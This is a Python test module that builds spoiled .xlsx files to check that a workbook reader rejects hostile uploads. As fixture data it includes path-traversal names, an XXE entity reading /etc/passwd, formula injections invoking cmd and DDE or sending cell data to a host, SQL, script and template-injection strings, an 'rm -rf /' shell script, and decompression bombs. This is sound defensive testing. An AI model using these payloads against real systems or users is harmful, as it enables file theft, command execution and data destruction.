"""Workbooks that nobody should have to open, made by the tests: each with its name.

The base is the right workbook of a region; every file spoils it in one way, or is no workbook.
"""

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from openpyxl import load_workbook

from tests.allocation.workbooks import hostile
from tests.allocation.workbooks.packages import parts, row_xml, sheet_xml

Make = Callable[[Path], Path]
SHEET = "xl/worksheets/sheet2.xml"  # "Verdeling"
TRICKS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/cron.d/x",
    "C:\\x.exe",
    "xl/../../x",
    "xl/worksheets/../../../x.xml",
    "nul",
    "xl/\u202egpj.exe",
    "x" * 5000 + ".xml",
    "xl//x.xml",
)
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"klik")',
    '=WEBSERVICE("http://example.org/")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "='[boek.xlsx]Blad1'!A1",
    '=INDIRECT("Kenmerk!B2")',
    "=1+1",
    "=SUM(F2:F2)",
    "=G2",
    "=#REF!",
    '=REPT("x",32767)',
)
TEXTS = (
    "<script>alert(1)</script>",
    "'; DROP TABLE consultation_gridcell; --",
    "{{ settings.SECRET_KEY }}",
    "%(found)s %s %d",
    "x" * 32_000,
    "\u202e3",
    "1e3",
    "0x10",
    "1,5",
    "1.000",
    "-0,1",
    "NaN",
    "Infinity",
    "=",
    "+3-",
    "@SUM(A1)",
    "9" * 400,
    "\U0001f600",
    "3 plaatsen",
    "_x0000_",
    "twee\nregels",
)
NUMBERS = (-1, 0.5, 1e300, -1e300, 99999, 2**53, True, 3.0000001)


def spoiled(good: bytes) -> Iterator[tuple[str, Make]]:
    """Every hostile file with its name; `good` is the right workbook."""
    yield from _known()
    yield from _cut(good)
    yield from _repacked(good)
    yield from _cells(good)
    yield from _no_books(good)


def _of(data: bytes) -> Make:
    return hostile.of_bytes(data)


def _known() -> Iterator[tuple[str, Make]]:
    """Those of the reader itself."""
    for name, make in vars(hostile).items():
        own = getattr(make, "__module__", "") == hostile.__name__
        if callable(make) and own and not name.startswith("_") and name != "of_bytes":
            yield name, make


def _cut(good: bytes) -> Iterator[tuple[str, Make]]:
    for share in (1, 5, 10, 25, 40, 50, 60, 75, 90, 95, 99):
        yield f"truncated at {share}%", _of(good[: len(good) * share // 100])
    for loose in (1, 4, 22):
        yield f"truncated by {loose}", _of(good[:-loose])
    yield "head missing", _of(good[30:])
    yield "with a tail", _of(good + b"\x00" * 100_000)


def _replaced(good: bytes, change: dict[str, bytes], more: dict[str, bytes] | None = None) -> bytes:
    """The workbook with some parts otherwise, and others added."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            new.writestr(part, change.get(part, old.read(part)))
        for part, data in (more or {}).items():
            new.writestr(part, data)
    return target.getvalue()


def _part(good: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(good)) as old:
        return old.read(name)


def _repacked(good: bytes) -> Iterator[tuple[str, Make]]:
    sheet = _part(good, SHEET)
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    head = sheet.index(b"<worksheet")
    yield "entity in the sheet", _of(_replaced(good, {SHEET: sheet[:head] + entity + sheet[head:]}))
    corner = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    yield "far corner", _of(_replaced(good, {SHEET: sheet.replace(b"</sheetData>", corner)}))
    wide = "".join(f'<c r="{_letters(n)}99"><v>1</v></c>' for n in range(1, 10_001))
    row = f'<row r="99">{wide}</row></sheetData>'.encode()
    yield "10,000 columns", _of(_replaced(good, {SHEET: sheet.replace(b"</sheetData>", row)}))
    deep = b"<a>" * 50_000 + b"</a>" * 50_000
    yield "deep nesting", _of(_replaced(good, {SHEET: sheet.replace(b"</sheetData>", deep)}))
    yield "half a sheet", _of(_replaced(good, {SHEET: sheet[: len(sheet) // 2]}))
    yield "empty sheet part", _of(_replaced(good, {SHEET: b""}))
    yield "sheet of zeros", _of(_replaced(good, {SHEET: bytes(10_000)}))
    types = _part(good, "[Content_Types].xml")
    macro = types.replace(b"spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main")
    yield "macro type", _of(_replaced(good, {"[Content_Types].xml": macro}))
    yield (
        "types of a document",
        _of(
            _replaced(
                good, {"[Content_Types].xml": types.replace(b"spreadsheetml", b"wordprocessingml")}
            )
        ),
    )
    yield "no types", _of(_replaced(good, {"[Content_Types].xml": b"<Types/>"}))
    yield "no relations", _of(_replaced(good, {"xl/_rels/workbook.xml.rels": b"<R/>"}))
    yield "styles of nonsense", _of(_replaced(good, {"xl/styles.xml": b"<x>"}))
    for name, data in (
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        ("xl/embeddings/oleObject1.bin", b"MZ"),
        ("xl/activeX/activeX1.xml", b"<x/>"),
        ("xl/connections.xml", b"<connections/>"),
        ("xl/macrosheets/sheet1.xml", b"<x/>"),
        ("xl/queryTables/queryTable1.xml", b"<x/>"),
        ("xl/webextensions/taskpanes.xml", b"<x/>"),
        ("xl/media/bomb.png", bytes(80 * 1024 * 1024)),
        ("xl/worksheets/extra.xml", b"<c " * 400_000),
    ):
        yield f"with {name}", _of(_replaced(good, {}, {name: data}))


def _letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _cells(good: bytes) -> Iterator[tuple[str, Make]]:
    """Right as a file, and wrong in what stands in a cell where a number belongs."""
    for value in (*INJECTIONS, *TEXTS, *NUMBERS):
        yield f"cell {str(value)[:20]!r}", _of(_with_cell(good, value))


def _with_cell(good: bytes, value: object) -> bytes:
    book = load_workbook(io.BytesIO(good))
    book["Verdeling"]["G2"].value = value
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def _no_books(good: bytes) -> Iterator[tuple[str, Make]]:
    with_tricks = dict.fromkeys(TRICKS, b"x")
    for name in TRICKS:
        # A path trick is harmless where nothing is unpacked; here it stands in a spoiled book.
        yield f"path {name[:20]!r}", _of(_replaced(good, {SHEET: b"<x"}, {name: b"x"}))
    yield "all paths", _of(_replaced(good, {SHEET: b"<x"}, with_tricks))
    yield "csv named xlsx", _of(b"Code;Specialisme\r\n02;Cardiologie\r\n")
    yield "json", _of(b'{"Instelling": "I001"}')
    yield "nul bytes", _of(bytes(5000))
    yield "5 MB and more", _of(b"PK\x03\x04" + bytes(5 * 1024 * 1024))
    yield "zip within", _of(_replaced(good, {SHEET: good}))
    yield "gzip", _of(b"\x1f\x8b\x08" + bytes(100))
    yield "7z", _of(b"7z\xbc\xaf\x27\x1c" + bytes(100))
    yield "rtf", _of(b"{\\rtf1 x}")
    yield "script", _of(b"#!/bin/sh\nrm -rf /\n")
    yield "gif", _of(b"GIF89a" + bytes(100))
    yield "ole alone", _of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000))
    yield "unicode noise", _of("ø∆≈ß\n".encode() * 2000)
    laughs = sheet_xml(row_xml(1, "&b;"), before='<!DOCTYPE w [<!ENTITY b "ha">]>')
    yield "laughs", lambda path: hostile.package(path, parts(laughs))
    many = sheet_xml("<row r='1'/>" * 30_000)
    yield "30,000 rows", lambda path: hostile.package(path, parts(many))
    yield "size that lies", _of(_lying(good))


def _lying(good: bytes) -> bytes:
    """The sheet says in the directory that it unpacks to ten bytes."""
    data = bytearray(good)
    with zipfile.ZipFile(io.BytesIO(good)) as old:
        size = old.getinfo(SHEET).file_size
    at = data.rfind(struct.pack("<L", size))
    data[at : at + 4] = struct.pack("<L", 10)
    return bytes(data)
